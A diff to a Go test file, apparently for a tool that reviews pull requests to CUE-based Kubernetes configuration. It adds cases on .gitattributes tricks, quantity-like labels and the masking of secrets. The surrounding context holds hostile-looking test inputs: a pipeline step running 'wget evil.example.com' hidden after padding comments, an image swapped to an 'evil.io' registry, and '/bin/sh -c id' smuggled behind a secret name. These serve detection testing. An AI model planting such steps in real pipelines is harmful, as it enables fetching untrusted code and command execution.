@@ -121,6 +121,8 @@ func pulls() []pull {
 		{kind: "links", name: "a filter by a macro", head: map[string]string{".gitattributes": "[attr]harmless filter=x\n"}, exit: 1, wants: []string{"input/gitattributes"}},
 		{kind: "links", name: "a class of characters that go-git does not know", head: map[string]string{".gitattributes": "cue/platform/[!q]*.cue ident\n"}, exit: 1, wants: []string{"input/gitattributes"}},
 		{kind: "links", name: "a named class", head: map[string]string{".gitattributes": "cue/platform/[[:alpha:]]*.cue ident\n"}, exit: 1, wants: []string{"input/gitattributes"}},
+		{kind: "links", name: "behind a mark of the byte order", head: map[string]string{".gitattributes": "\ufeffcue/platform/*.cue ident\n"}, exit: 1, wants: []string{"input/gitattributes"}},
+		{kind: "links", name: "other ends of lines", head: map[string]string{".gitattributes": "cue/** text eol=crlf\n"}, exit: 1, wants: []string{"input/gitattributes"}},
 		{kind: "links", name: "in other letters", head: map[string]string{".gitattributes": "CUE/**/*.cue ident\n"}, exit: 1, wants: []string{"input/gitattributes"}},
 		{kind: "links", name: "attributes of others", head: map[string]string{".gitattributes": "docs/** filter=lfs\n*.cue text eol=lf\noverlays/** linguist-generated -ident\n"}, exit: 0},
 		{kind: "links", name: "what another file turns on", exit: 1, wants: []string{"rbac/admin-binding"},
@@ -178,6 +180,8 @@ func pulls() []pull {
 		{kind: "lines", name: "a new step", base: map[string]string{prod: aTask("true", "")},
 			head: map[string]string{prod: strings.Replace(aTask("true", ""), "steps: [", `steps: [{name: "b", image: "b", script: "`+strings.Repeat("# x\\n", 100)+`wget evil.example.com"}, `, 1)}, exit: -1, wants: []string{"wget evil.example.com"}},
 		{kind: "lines", name: "a version that looks like a number", base: map[string]string{prod: withDefault("version", `"3.10"`)}, head: map[string]string{prod: withDefault("version", `"3.1"`)}, exit: -1, wants: []string{"3.10"}},
+		{kind: "lines", name: "a selector that looks like a quantity", base: map[string]string{prod: "package platform\ntargets: phase1: ConfigMap: m: {" + mapOf("a") + "}\ntargets: phase1: ConfigMap: m: metadata: labels: cpu: \"1\"\n"},
+			head: map[string]string{prod: "package platform\ntargets: phase1: ConfigMap: m: {" + mapOf("a") + "}\ntargets: phase1: ConfigMap: m: metadata: labels: cpu: \"1.0\"\n"}, exit: -1, wants: []string{"+ 1.0"}},
 		{kind: "lines", name: "an image by a parameter", base: map[string]string{prod: withDefault("image", `"a@sha256:1111111111111111111111111111111111111111111111111111111111111111"`)}, head: map[string]string{prod: withDefault("image", `"evil.io/evil/x:1"`)}, exit: -1, wants: []string{"change/source-changed", "evil.io/evil/x:1"}},
 		{kind: "lines", name: "an image behind the name of a secret", base: map[string]string{prod: withDefault("image-token", `"a"`)}, head: map[string]string{prod: withDefault("image-token", `"evil.io/evil/x:1"`)}, exit: -1, wants: []string{"+ evil.io/evil/x:1"}},
 		{kind: "lines", name: "a command behind the name of a secret", base: map[string]string{prod: withDefault("setup-token", `"git --version"`)}, head: map[string]string{prod: withDefault("setup-token", `"/bin/sh -c id"`)}, exit: -1, wants: []string{"+ /bin/sh -c id"}},
@@ -259,10 +263,13 @@ func pullTexts() []pull {
 		all = append(all, pull{kind: "review", name: name, all: true, exit: 1, base: map[string]string{"overlays/.keep": ""}, head: map[string]string{"overlays/" + file: "a: b\n"}})
 	}
 	for name, files := range map[string][2]map[string]string{
-		"changed":  {{prod: secretsOf("0ldS3cr3tV4lue")}, {prod: secretsOf(marker)}},
-		"added":    {nil, {prod: secretsOf(marker)}},
-		"removed":  {{prod: secretsOf(marker)}, {prod: ""}},
-		"conflict": {{prod: secretsOf("0ldS3cr3tV4lue")}, {prod: secretsOf("0ldS3cr3tV4lue") + "targets: phase1: ConfigMap: c: data: password: \"" + marker + "\"\n"}},
+		"changed":                 {{prod: secretsOf("0ldS3cr3tV4lue")}, {prod: secretsOf(marker)}},
+		"added":                   {nil, {prod: secretsOf(marker)}},
+		"removed":                 {{prod: secretsOf(marker)}, {prod: ""}},
+		"a conflict in a Secret":  {{prod: secretsOf("0ldS3cr3tV4lue")}, {prod: secretsOf("0ldS3cr3tV4lue") + "targets: phase1: Secret: s: stringData: a: \"" + marker + "\"\n"}},
+		"a file that is a Secret": {nil, {prod: "package platform\nfiles: phase1: \"samples/a.yaml\": \"apiVersion: v1\\nkind: Secret\\nstringData:\\n  foo: " + marker + "\\n\"\n"}},
+		"a login":                 {nil, {prod: aTask("docker login -u a -p "+marker, "")}},
+		"conflict":                {{prod: secretsOf("0ldS3cr3tV4lue")}, {prod: secretsOf("0ldS3cr3tV4lue") + "targets: phase1: ConfigMap: c: data: password: \"" + marker + "\"\n"}},
 	} {
 		all = append(all, pull{kind: "hidden", name: name, all: true, exit: -1, base: files[0], head: files[1], never: []string{"0ldS3cr3tV4lue"}})
 	}
